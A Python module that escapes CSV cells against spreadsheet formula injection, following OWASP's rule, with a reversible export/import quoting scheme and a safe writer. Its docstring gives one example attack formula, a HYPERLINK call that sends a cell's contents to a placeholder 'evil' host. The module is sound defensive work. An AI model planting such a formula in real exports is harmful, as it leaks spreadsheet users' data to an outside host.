"""CSV cells a spreadsheet reads as text, never as a formula (OWASP's CSV injection rule).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some of
them, one that starts with a tab or a carriage return) as a formula: a product called
``=HYPERLINK("http://evil/?"&A1, "Click")`` would become a live link in the manager's
spreadsheet. Text cells that start with one of those characters are written with a single
quote in front, which spreadsheets show as text.

Only text columns are escaped, decided per column by the writer: numbers are written as
numbers (a negative amount must stay a number), so writers hand numbers over as int or
Decimal and text as str.

The quote must not change what a file means when it comes back (a product exported and
imported again is identical), so the rule is a bijection on text:
- export: a value that starts with any number of quotes and then one of the characters
  above gets one more quote in front (``-50% sale`` -> ``'-50% sale``,
  ``'=x`` -> ``''=x``);
- import: a cell that starts with one or more quotes and then one of those characters
  loses one quote. Any other text is left exactly as it is (``'Twas`` stays ``'Twas``).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, TextIO

FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"


def _quoted_formula(text: str) -> bool:
    """Does `text` start with zero or more quotes and then a formula character?"""
    rest = text.lstrip(QUOTE)
    return bool(rest) and rest[0] in FORMULA_STARTS


def text_cell(value: str) -> str:
    """A text value as a cell no spreadsheet runs."""
    return QUOTE + value if _quoted_formula(value) else value


def text_from_cell(cell: str) -> str:
    """The text an exported cell stood for (the inverse of `text_cell`)."""
    if cell.startswith(QUOTE) and _quoted_formula(cell):
        return cell[1:]
    return cell


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for csv.writer: str values escaped, numbers and None as they are.

    A bool is a caller's mistake here (it would be written True/False): refused loudly."""
    out: list[Any] = []
    for value in values:
        if isinstance(value, bool):
            raise TypeError("write booleans as text (e.g. '1'/'0'), not bool")
        if isinstance(value, str):
            out.append(text_cell(value))
        elif value is None or isinstance(value, (int, Decimal)):
            out.append("" if value is None else value)
        else:
            raise TypeError(f"CSV cell of type {type(value).__name__}: give str, int or Decimal")
    return out


class SafeCsvWriter:
    """csv.writer whose rows go through `safe_row` (header rows too: they are text)."""

    def __init__(self, fh: TextIO) -> None:
        self._out = csv.writer(fh)

    def writerow(self, values: Iterable[Any]) -> None:
        self._out.writerow(safe_row(values))
